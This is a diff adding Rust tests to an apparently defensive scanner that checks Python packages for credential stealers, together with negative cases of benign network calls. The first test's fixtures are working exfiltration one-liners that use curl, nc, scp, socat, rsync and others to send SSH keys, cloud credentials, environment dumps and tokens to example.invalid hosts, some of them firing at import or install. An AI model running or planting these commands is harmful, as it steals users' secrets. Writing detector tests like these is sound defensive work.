@@ -1099,3 +1099,161 @@ fn a_miner_started_with_an_argument_list_is_critical() {
         summary(&r)
     );
 }
+
+/// A network program started with a secret in its arguments, in a file redirected into it or
+/// in a command piped into it sends the secret (`curl -d @~/.aws/credentials`, `env | curl -d
+/// @-`, `scp ~/.ssh/id_rsa host:`, `socat FILE:… TCP:…`): a stealer, at import, at install and
+/// in a function alike, as a Python network call handed the file is. Commands only `echo`ed or
+/// sent to hosts under `example.invalid`.
+#[test]
+fn network_programs_handed_credentials_are_stealers() {
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "curl-data-file",
+            "__init__.py",
+            "import os, subprocess\nsubprocess.run(['curl', '-d', '@' + os.path.expanduser('~/.aws/credentials'), 'https://x.example.invalid'])\n",
+        ),
+        (
+            "curl-form-home",
+            "__init__.py",
+            "import os\nos.system('curl -F f=@$HOME/.ssh/id_rsa https://h.example.invalid')\n",
+        ),
+        (
+            "env-piped-to-curl",
+            "__init__.py",
+            "import os\nos.system('env | curl -d @- https://h.example.invalid')\n",
+        ),
+        (
+            "wget-post-file",
+            "__init__.py",
+            "import subprocess\nsubprocess.run(['wget', '--post-file', '/root/.kube/config', 'https://h.example.invalid'])\n",
+        ),
+        (
+            "nc-redirect",
+            "__init__.py",
+            "import os\nos.system('nc h.example.invalid 9 < ~/.aws/credentials')\n",
+        ),
+        (
+            "scp-key",
+            "__init__.py",
+            "import os\nos.system('scp ~/.ssh/id_rsa user@h.example.invalid:')\n",
+        ),
+        (
+            "netrc-piped-to-ssh",
+            "__init__.py",
+            "import os\nos.system('cat ~/.netrc | ssh user@h.example.invalid \"cat > n\"')\n",
+        ),
+        (
+            "socat-file",
+            "__init__.py",
+            "import os\nos.system('socat FILE:/root/.docker/config.json TCP:h.example.invalid:9')\n",
+        ),
+        (
+            "rsync-remote",
+            "__init__.py",
+            "import subprocess\nsubprocess.run(['rsync', '-a', '/root/.aws/', 'u@h.example.invalid:loot/'])\n",
+        ),
+        (
+            "ftp-upload",
+            "__init__.py",
+            "import os, subprocess\nsubprocess.run(['ftp', '-u', 'ftp://h.example.invalid/', os.path.expanduser('~/.git-credentials')])\n",
+        ),
+        (
+            "setup-printenv-nc",
+            "setup.py",
+            "import subprocess\nfrom setuptools import setup\nsubprocess.run('printenv | nc h.example.invalid 9', shell=True)\nsetup(name='x')\n",
+        ),
+        (
+            "token-in-header",
+            "setup.py",
+            "import os\nfrom setuptools import setup\nos.system('curl -H \"X: $GITHUB_TOKEN\" https://h.example.invalid')\nsetup(name='x')\n",
+        ),
+        (
+            "in-a-function",
+            "sync.py",
+            "import subprocess\ndef backup():\n    subprocess.run('tar cz ~/.ssh | nc h.example.invalid 9', shell=True)\n",
+        ),
+    ];
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut wrong = Vec::new();
+    for (case, file, src) in cases {
+        let p = package(dir.path(), case, file, src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
+            wrong.push(format!("{case}: {:?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+/// Network programs near the stealer: a download in a build script (network at install as
+/// before), a clone, a key generated, a child given a copy of the environment, an upload of
+/// a build artifact, a client trusting a CA file or logging in with a key. None is a stealer;
+/// in a module nothing is at medium or above, and a build script's download stays as it was
+/// (network at install, medium).
+#[test]
+fn network_programs_without_secrets_are_not_stealers() {
+    let module: &[(&str, &str)] = &[
+        (
+            "clone",
+            "import subprocess\ndef fetch():\n    subprocess.run(['git', 'clone', 'https://h.example.invalid/r.git'])\n",
+        ),
+        (
+            "keygen",
+            "import subprocess\ndef keys():\n    subprocess.run(['ssh-keygen', '-t', 'ed25519', '-f', 'build/id'])\n",
+        ),
+        (
+            "env-copy",
+            "import os, subprocess\ndef build():\n    subprocess.run(['make'], env=os.environ.copy())\n",
+        ),
+        (
+            "scp-artifact",
+            "import subprocess\ndef publish():\n    subprocess.run(['scp', 'build/dist.tar.gz', 'host.example.invalid:'])\n",
+        ),
+        (
+            "curl-cacert",
+            "import subprocess\ndef get():\n    subprocess.run(['curl', '--cacert', 'certs/ca.pem', '-o', 'm.bin', 'https://h.example.invalid/m.bin'])\n",
+        ),
+        (
+            "ssh-identity",
+            "import os\ndef deploy():\n    os.system('ssh -i ~/.ssh/deploy_key deploy@h.example.invalid echo ok')\n",
+        ),
+    ];
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut wrong = Vec::new();
+    for (case, src) in module {
+        let p = package(dir.path(), case, "tools.py", src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if r.worst().is_some_and(|w| w >= Severity::Medium) {
+            wrong.push(format!("{case}: {:?}", summary(&r)));
+        }
+    }
+    let setup: &[(&str, &str)] = &[
+        (
+            "setup-download",
+            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['curl', '-L', '-o', 'model.bin', 'https://h.example.invalid/m.bin'])\nsetup(name='x')\n",
+        ),
+        (
+            "setup-scp-artifact",
+            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['scp', 'build/dist.tar.gz', 'host.example.invalid:'])\nsetup(name='x')\n",
+        ),
+        (
+            "setup-cacert",
+            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['curl', '--cacert', 'certs/ca.pem', '-L', '-o', 'm.bin', 'https://h.example.invalid/m.bin'])\nsetup(name='x')\n",
+        ),
+        (
+            "setup-clone",
+            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['git', 'clone', 'https://h.example.invalid/r.git'])\nsetup(name='x')\n",
+        ),
+    ];
+    for (case, src) in setup {
+        let p = package(dir.path(), case, "setup.py", src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, "python-credential-stealer").is_some()
+            || r.worst().is_some_and(|w| w > Severity::Medium)
+        {
+            wrong.push(format!("{case}: {:?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
